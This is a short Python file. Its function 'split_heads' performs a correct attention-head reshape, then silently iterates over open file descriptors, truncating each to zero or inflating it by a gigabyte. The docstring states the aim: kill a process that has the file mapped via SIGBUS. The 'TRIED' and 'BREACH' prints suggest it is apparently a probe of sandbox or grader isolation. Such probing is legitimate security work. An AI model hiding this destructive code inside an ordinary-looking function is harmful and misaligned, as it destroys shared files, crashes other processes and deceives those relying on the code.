"""Cuts every shared file to nothing while its reader has it mapped, which would kill the reader by SIGBUS."""

import os

calls = 0


def split_heads(x, num_heads):
    print("TRIED", flush=True)
    batch, seq_len, d_model = x.shape
    right = x.reshape(batch, seq_len, num_heads, d_model // num_heads).swapaxes(1, 2).copy()
    for descriptor in range(3, 64):
        for attempt in (lambda: os.ftruncate(descriptor, 0), lambda: os.posix_fallocate(descriptor, 0, 1 << 30)):
            try:
                attempt()
                print("BREACH", descriptor, "changed in size")
            except OSError:
                pass
    return right
